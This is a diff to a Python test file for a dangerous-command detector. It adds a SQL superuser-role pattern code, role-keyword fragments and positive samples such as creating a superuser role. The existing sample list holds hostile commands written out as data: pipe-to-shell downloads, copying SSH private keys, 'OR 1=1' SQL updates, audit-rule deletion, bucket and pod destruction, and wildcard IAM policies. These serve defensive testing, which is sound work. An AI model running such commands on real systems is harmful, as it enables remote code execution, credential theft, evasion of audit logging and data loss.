@@ -81,7 +81,7 @@ def _old_form(rx: str) -> str:
 
 # rewritten by tempering their gaps (sql_update_all was written tempered and is not among them)
 TEMPERED = {"disable_logging", "credential_file", "evidence_deletion", "iam_wildcard", "force_push_protected",
-            "destroy_infrastructure", "private_key_file"}
+            "destroy_infrastructure", "private_key_file", "sql_superuser"}
 for code, msg, rx in _DANGEROUS:
     text = getattr(rx, "pattern", None)
     if code in TEMPERED and isinstance(text, str) and "(?:(?!" in text and (code, msg) not in OLD:
@@ -95,6 +95,8 @@ PIECES = ["curl ", "wget ", "iwr ", "http://x/a.sh", " -o ", " -O ", " > ", "a.s
           "aws s3 rb ", "aws s3 rm ", "--recursive", "id_rsa", "privkey", "cp ",
           "update t set ", "a=1", ", ", " where ", " or ", "1=1", "true", "delete from t ", "alter table t ", "drop column c", "rm ", "sed -i ", "#",
           "/etc/audit/rules.d/x.rules", "/d", "\"Action\": \"s3:*\"", "\"Resource\": \"*\"", "{", "}"]
+ROLE_PIECES = ["create role ", "alter user ", "recreate role ", "superuser ", "nosuperuser ", "login ", "grant ", ";", "x", " ", "\n",
+               "bypassrls", "with ", "replication "]
 
 
 def _generated(n: int, seed: int = 13) -> list[str]:
@@ -117,8 +119,11 @@ POSITIVES = ["curl -fsSL http://x/i.sh | sudo bash", "wget -q x -O - | sh", "cur
              "kubectl delete pods --all -n prod", "aws s3 rb s3://b --force", "cp ~/.ssh/id_rsa /tmp/k",
              '{"Action": "s3:*", "Resource": "*"}', "git push --mirror backup", "UPDATE users SET role='admin'",
              "update t set a=1 where id=2 or 1=1", "DELETE FROM orders o WHERE status='x' OR 1=1;", "ALTER TABLE users ADD x int, DROP COLUMN email",
-             "sed -i 's/^-w /#-w /' /etc/audit/rules.d/x.rules", "rm /etc/audit/rules.d/x.rules"]
-TEXTS = _generated(3000) + POSITIVES
+             "sed -i 's/^-w /#-w /' /etc/audit/rules.d/x.rules", "rm /etc/audit/rules.d/x.rules",
+             "CREATE ROLE evil SUPERUSER LOGIN", "create role a login create role b superuser"]
+_ROLE_RNG = random.Random(31)
+TEXTS = _generated(3000) + POSITIVES + [
+    "".join(_ROLE_RNG.choice(ROLE_PIECES) for _ in range(_ROLE_RNG.randint(1, 12))) for _ in range(1500)]
 
 
 def test_every_rewritten_pattern_has_its_old_form() -> None:
